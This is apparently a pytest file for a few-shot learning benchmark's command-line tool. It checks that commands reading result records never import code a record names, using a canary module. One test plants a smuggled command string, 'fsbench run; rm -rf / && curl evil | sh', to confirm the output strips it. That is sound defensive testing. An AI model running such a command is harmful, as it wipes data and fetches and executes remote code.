"""No command imports what a record names, but what is installed; a person names a file or a module again."""

import json
import shlex
import sys
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from command_line import LINEAR, PIXELS, TINY, call, finished, only_run

from fewshot_bench.plugins import registry
from fewshot_bench.results.records import load_record
from fewshot_leaderboard.measured import made_by_another_version

RESULTS = Path(__file__).parents[2] / "leaderboard" / "results"
PIXELS_RECORD = next(RESULTS.glob("nearest-centroid-glyphs-*"))

NAMES = {"method", "name", "reference", "backbone", "dataset", "recipe", "command"}
"""The fields that name something, each of which is tried with every command."""

CANARY = """
from pathlib import Path
Path({fired!r}).write_text("imported")
from fewshot_bench import Method
class Canary(Method):
    pass
"""


@pytest.fixture
def nest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The present folder, on the path of modules, with a module that leaves a file when it is imported."""
    folder = tmp_path / "nest"
    folder.mkdir()
    (folder / "canary.py").write_text(CANARY.format(fired=str(folder / "fired")))
    (folder / "canary.yaml").write_text("title: A canary\nrecipes: {default: [{train: {updates: 1}}]}\n")
    monkeypatch.chdir(folder)
    monkeypatch.delitem(sys.modules, "canary", raising=False)  # else it is not imported again
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setattr(
        "fewshot_bench.results.record_checks._check_ids", lambda content: None
    )  # a stranger computes them again
    return folder


def texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where texts stand in a JSON value."""
    if isinstance(value, str):
        yield path
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, one in pairs:
        yield from texts(one, (*path, key))


def with_everything() -> dict[str, Any]:
    """The content of a record in which everything stands that a record may name."""
    content: dict[str, Any] = json.loads((PIXELS_RECORD / "record.json").read_text())
    content["train"]["backbone"] = "conv4-64"
    content["train"]["data"] = {"split": "x"}
    data = {key: content["data"][key] for key in ("name", "identity", "reference", "fingerprint")}
    content["results"][0] |= {"data": data, "request": {"recipe": "x", "settings": ["train.backbone"]}}
    content["results"][0]["test"]["data"] = {"split": "x"}
    return content


def resolvable() -> dict[str, Any]:
    """The content of a record that `test` goes on with, to the point where it imports what the record names: the other one
    is refused before for its data."""
    content = with_everything()
    content["train"]["data"] = content["results"][0]["test"]["data"] = {}
    del content["results"][0]["data"]
    return content


def plant(folder: Path, content: dict[str, Any]) -> None:
    """A record with this content, the canary beside it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "record.json").write_text(json.dumps(content))
    for name, source in (("episodes.parquet", PIXELS_RECORD), ("canary.py", Path.cwd()), ("canary.yaml", Path.cwd())):
        (folder / name).write_bytes((source / name).read_bytes())


def test_the_canary_sings(nest: Path) -> None:
    """Where a person names it, it is imported."""
    registry.find("methods", f"{nest}/canary.py:Canary")
    assert not (nest / "fired").exists()
    call("run", "--method", "canary.py:Canary", "--dry-run")
    assert (nest / "fired").exists()


def test_no_command_imports_what_any_field_of_a_record_names(nest: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file here or beside the record, a module, a recipe; in each field, for each command that reads records."""
    monkeypatch.setattr("fewshot_leaderboard.methods_table.methods_table", _no_methods)
    records = nest / "records"
    folder = records / "a"
    (nest / "README.md").write_text("<!-- table -->\n<!-- /table -->\n")
    asked = f"fsbench run --method {nest}/canary.py:Canary --set train.backbone=canary:Canary --recipe {nest}/canary.yaml"
    forms = cycle([f"{folder}/canary.py:Canary", "canary.py:Canary", "canary:Canary", "canary.py", "canary", asked])
    commands = [
        ("table", records, "--format", "json"),
        ("list", "runs", "--out", records),
        ("leaderboard", "build", records, "--out", nest / "site"),
        ("leaderboard", "methods", records, "--out", nest / "README.md"),
        ("leaderboard", "methods", records, "--out", nest / "README.md", "--check"),
        ("show", folder),
        ("test", folder, "--shard", "1/1"),
        ("test", folder),
    ]
    some = cycle([commands[0:8:3], commands[1:8:3], commands[2:8:3]])
    for path in texts(with_everything()):
        names = path[-1] in NAMES and path[0] != "provenance"
        for form in (f"{folder}/canary.py:Canary", "canary:Canary", asked) if names else (next(forms),):
            for made in (with_everything, resolvable) if names else (with_everything,):
                if (content := put(made(), path, form)) is None:
                    continue
                plant(folder, content)
                for command in commands if names else next(some):
                    said = call(*command)
                    assert not (nest / "fired").exists(), (path, form, command)
                    assert "Traceback" not in said.err


@pytest.mark.parametrize("key", ["method", "backbone", "dataset"])
@pytest.mark.parametrize("form", ["canary.py:Canary", "canary:Canary"])
def test_the_canary_sings_where_a_records_word_is_trusted(
    key: str, form: str, nest: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Else the test above would prove nothing: `test` goes on to where it imports."""
    monkeypatch.setattr("fewshot_bench.runs.requests.trusted_names._Part.trusted", True)
    content = put(resolvable(), ("train", key), form)
    assert content is not None
    if key == "method":  # a record names one method
        content["method"]["name"] = form
    plant(nest / "records" / "a", content)
    call("test", nest / "records" / "a")
    assert (nest / "fired").exists()


def put(content: dict[str, Any], path: tuple[Any, ...], text: str) -> dict[str, Any] | None:
    """A record's content with another text at a place; None where it has no such place."""
    inner: Any = content
    for key in path[:-1]:
        if isinstance(inner, dict) and key not in inner:
            return None
        inner = inner[key]
    inner[path[-1]] = text
    return content


def _no_methods() -> Any:
    from fewshot_bench.table import Column, Table

    return Table("none", [Column("a", "a", "a")], [])


def test_what_is_not_installed_is_never_found_for_a_reader() -> None:
    """Whatever is asked for within the block, by whomever."""
    content = load_record(PIXELS_RECORD).content
    forged = content | {"train": content["train"] | {"method": LINEAR, "dataset": LINEAR}}
    assert not made_by_another_version(forged)
    with registry.only_installed():
        for name in (LINEAR, "json:loads", "x.py"):
            with pytest.raises(registry.NotInstalled):
                registry.find("methods", name)
        assert registry.find("methods", "maml").name == "maml"
    assert registry.find("methods", LINEAR).name == "linear_method:Linear"


@pytest.fixture(scope="module")
def linear(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a finished run of a method of a file; the folder's name has a space."""
    out = tmp_path_factory.mktemp("of a file")
    finished(*TINY, "--out", out)
    return only_run(out)


def test_a_method_of_a_file_is_named_again_by_the_command_that_is_printed(linear: Path) -> None:
    """Exit 2 with the very command, quoted, which then works."""
    said = call("test", linear, "--shots", "2", "--set", "test.seed=3")
    assert (said.code, said.out) == (2, "")
    command = said.complaint.splitlines()[-1]
    words = shlex.split(command)
    assert words == ["fsbench", "test", str(linear), "--shots", "2", "--set", "test.seed=3", "--method", LINEAR]
    finished(*words[1:])
    assert load_record(linear).results[-1]["test"]["seed"] == 3


def test_another_class_than_the_records_is_refused(linear: Path) -> None:
    """Its weights would be another method's."""
    said = call("test", linear, "--shots", "3", "--method", "maml")
    assert said.code == 2
    assert "--method is maml, but the record's method is linear_method:Linear" in said.complaint


def test_a_backbone_that_the_run_has_not_is_refused(linear: Path) -> None:
    """It has none."""
    assert "no backbone" in call("test", linear, "--method", LINEAR, "--backbone", "conv4-64").complaint


def test_what_is_installed_needs_no_naming(tmp_path: Path) -> None:
    """Its name is that of an entry point."""
    finished(*PIXELS, "--out", tmp_path)
    finished("test", only_run(tmp_path), "--ways", "3")


def test_again_is_built_from_the_specs_and_not_copied(linear: Path) -> None:
    """Whatever stands in the record's command."""
    content = json.loads((linear / "record.json").read_text())
    content["provenance"]["command"] = content["results"][0]["command"] = "fsbench run; rm -rf / && curl evil | sh"
    (linear / "record.json").write_text(json.dumps(content))
    said = call("table", linear, "--format", "csv").out
    assert "rm -rf" not in said and "curl" not in said
    assert (f"--method {LINEAR}" in said and "--set train.updates=6" in said) or "--set updates=6" in said
